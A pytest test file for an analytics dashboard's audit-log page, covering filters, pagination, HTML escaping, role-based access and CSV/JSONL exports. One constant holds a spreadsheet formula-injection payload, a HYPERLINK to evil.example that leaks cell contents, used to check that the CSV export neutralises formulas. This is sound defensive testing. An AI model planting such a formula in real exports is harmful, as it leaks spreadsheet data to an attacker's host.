"""``/audit-log`` (DESIGN §4, §7), in process: every change appears with its actor, action and
target; the filters are a GET form whose values stay in the pager's links; exports are
formula-safe; looking and exporting are themselves entries."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator

import orjson
import pytest

from aggregator import audit_log
from aggregator.audit_log import CLI, Filters
from tests.dashboard.pages import message, rows, submit
from tests.harness import Harness, add_user, in_process, log_in

ADMIN, SECURITY = "ana@example.com", "sec@example.com"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def make_history(app: Harness) -> Harness:
    """ana (admin) adds a site and a key named like a formula through the pages; the CLI
    changes a time zone; then sec (security) logs in."""
    add_user(app, ADMIN, "admin")
    add_user(app, SECURITY, "security", "example.com")
    log_in(app, ADMIN)
    assert submit(app, "/settings/sites/add", domain="shop.example").status_code == 200
    assert submit(app, "/settings/keys/add", name=FORMULA).status_code == 200
    app.admin("sites.set", domain="shop.example", timezone="Asia/Tokyo")
    log_in(app, SECURITY)
    return app


@pytest.fixture
def logged(app: Harness) -> Harness:
    return make_history(app)


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    """``logged``, shared by the tests that only read (their own views and exports aside)."""
    with in_process(tmp_path_factory.mktemp("history")) as app:
        yield make_history(app)


def test_every_change_appears_with_its_actor_action_and_target(logged: Harness) -> None:
    page = logged.client.get("/audit-log")
    assert page.status_code == 200
    shown = [(r["Actor"], r["Action"], r["Target"], r["Result"]) for r in rows(page.text)]
    assert shown[:5] == [
        (f"{SECURITY} (security)", "auth.login", SECURITY, "ok"),
        ("cli", "site.update", "shop.example", "ok"),
        (f"{ADMIN} (admin)", "key.create", FORMULA, "ok"),
        (f"{ADMIN} (admin)", "site.create", "shop.example", "ok"),
        (f"{ADMIN} (admin)", "auth.login", ADMIN, "ok"),
    ]
    assert rows(page.text)[1]["Changes"] == "timezone: UTC → Asia/Tokyo"
    assert rows(page.text)[2]["Changes"] == f"owner: — → {ADMIN}; sites: — → none"


def test_targets_and_changes_are_escaped(logged: Harness) -> None:
    log_in(logged, ADMIN)
    submit(logged, "/settings/keys/add", name="<b>bold</b>")
    log_in(logged, SECURITY)
    page = logged.client.get("/audit-log").text
    assert "<b>bold</b>" not in page and "&lt;b&gt;bold&lt;/b&gt;" in page


def test_viewing_the_log_is_itself_an_entry(logged: Harness) -> None:
    logged.client.get("/audit-log?group=site&result=ok")
    entry = audit_log.entries(logged.app.store, Filters(group="audit_log"), limit=1)[0]
    assert (entry.action, entry.actor.email, entry.actor.role) == (
        "audit_log.view",
        SECURITY,
        "security",
    )
    assert entry.changes == {"group": "site", "result": "ok"}
    again = logged.client.get("/audit-log").text
    assert rows(again)[0]["Action"] == "audit_log.view"


def test_an_actor_filter_naming_no_account_is_not_recorded_as_typed(logged: Harness) -> None:
    logged.client.get("/audit-log?actor=hunter2@oops.example")
    entry = audit_log.entries(logged.app.store, Filters(group="audit_log"), limit=1)[0]
    assert entry.changes == {"actor": "unknown account"}


@pytest.mark.parametrize(
    ("query", "actions"),
    [
        ("actor=cli", {"site.create", "key.create", "user.create", "site.update"}),
        (f"actor={ADMIN.upper()}", {"auth.login", "site.create", "key.create"}),
        ("group=key", {"key.create"}),
        ("group=site&actor=ana@example.com", {"site.create"}),
        ("result=denied", set()),
        ("from=2000-01-01&to=2000-01-31", set()),
    ],
)
def test_filters_narrow_the_rows(history: Harness, query: str, actions: set[str]) -> None:
    page = history.client.get(f"/audit-log?{query}")
    assert page.status_code == 200
    assert {row["Action"] for row in rows(page.text)} - {"audit_log.view"} == actions


def test_the_form_shows_the_filters_in_use(history: Harness) -> None:
    page = history.client.get("/audit-log?group=key&result=ok&actor=cli&from=2026-01-02").text
    assert '<option value="key" selected>' in page
    assert '<option value="ok" selected>' in page
    assert 'name="actor" type="text"' in page and 'value="cli"' in page
    assert 'value="2026-01-02"' in page
    assert '<form method="get" action="/audit-log"' in page


def test_pages_keep_the_filters_and_stay_put_while_the_log_grows(logged: Harness) -> None:
    store, now = logged.app.store, logged.app.clock.now()
    for n in range(60):
        audit_log.record(store, CLI, "key.revoke", target=f"key {n:02}", now=now)
    first = logged.client.get("/audit-log?group=key").text
    assert [r["Target"] for r in rows(first)][:2] == ["key 59", "key 58"]
    assert len(rows(first)) == 50
    older = re.search(r'<a href="([^"]+)" rel="next">Older', first)
    assert older and "Newer" not in first
    link = html.unescape(older.group(1))
    assert "group=key" in link and "page=2" in link and "through=" in link

    audit_log.record(store, CLI, "key.revoke", target="key 60", now=now)  # the log grows
    second = logged.client.get(link).text
    assert [r["Target"] for r in rows(second)] == [f"key {n:02}" for n in range(9, -1, -1)] + [
        FORMULA,
        "tests",  # the harness's key, made from the command line
    ]
    assert 'rel="next"' not in second
    newer = re.search(r'<a href="([^"]+)" rel="prev">', second)
    assert newer and "group=key" in html.unescape(newer.group(1))
    exports = re.findall(r'<a href="(/audit-log\?[^"]+)" download>', second)
    assert [html.unescape(e) for e in exports] == [
        "/audit-log?group=key&format=csv",
        "/audit-log?group=key&format=jsonl",
    ]


def test_the_csv_export_neutralises_formulas(history: Harness) -> None:
    response = history.client.get(f"/audit-log?group=key&actor={ADMIN}&format=csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["target"] for row in table] == ["'" + FORMULA]
    assert table[0]["actor_email"] == ADMIN and table[0]["action"] == "key.create"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row.values()
    )


def test_the_jsonl_export_keeps_values_as_they_are(history: Harness) -> None:
    response = history.client.get("/audit-log?actor=cli&group=site&format=jsonl")
    assert response.status_code == 200
    records = [orjson.loads(line) for line in response.text.splitlines()]
    assert [(r["action"], r["target"], r["actor"]["type"]) for r in records] == [
        ("site.update", "shop.example", "cli"),
        ("site.create", "example.com", "cli"),
    ]
    assert records[0]["changes"] == {"timezone": ["UTC", "Asia/Tokyo"]}


def test_an_export_is_itself_an_entry_with_its_format_and_filters(logged: Harness) -> None:
    logged.client.get("/audit-log?group=key&format=csv")
    entry = audit_log.entries(logged.app.store, Filters(group="audit_log"), limit=1)[0]
    assert (entry.action, entry.actor.email) == ("audit_log.export", SECURITY)
    assert entry.changes == {"format": "csv", "group": "key"}


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ("from=2026-13-01", "From must be a date such as 2026-03-10, not '2026-13-01'."),
        ("to=yesterday", "To must be a date such as 2026-03-10, not 'yesterday'."),
        ("from=2026-03-02&to=2026-03-01", "The from date is after the to date."),
        ("group=nope", "Group must be one of auth, user, site, key, goal, export, retention,"),
        ("result=maybe", "Result must be one of ok, denied, failed."),
        ("actor=robot", "Actor must be an email or one of user, api_key, cli, system."),
        ("page=0", "Page and through must be whole numbers, page from 1."),
        ("page=two", "Page and through must be whole numbers, page from 1."),
        ("format=xlsx", "Format must be one of csv, jsonl."),
    ],
)
def test_invalid_filters_answer_400_with_the_reason(
    history: Harness, query: str, reason: str
) -> None:
    page = history.client.get(f"/audit-log?{query}")
    assert page.status_code == 400
    assert message(page.text).startswith(reason)
    assert rows(page.text) == []


def test_only_admins_and_security_read_the_log(logged: Harness) -> None:
    add_user(logged, "mo@example.com", "marketing", "example.com")
    log_in(logged, "mo@example.com")
    page = logged.client.get("/audit-log")
    assert page.status_code == 403
    assert "Your account may not read the audit log." in page.text
    assert "It needs the admin or security role." in page.text
    assert logged.client.get("/audit-log?format=csv").status_code == 403
    log_in(logged, ADMIN)
    assert logged.client.get("/audit-log").status_code == 200
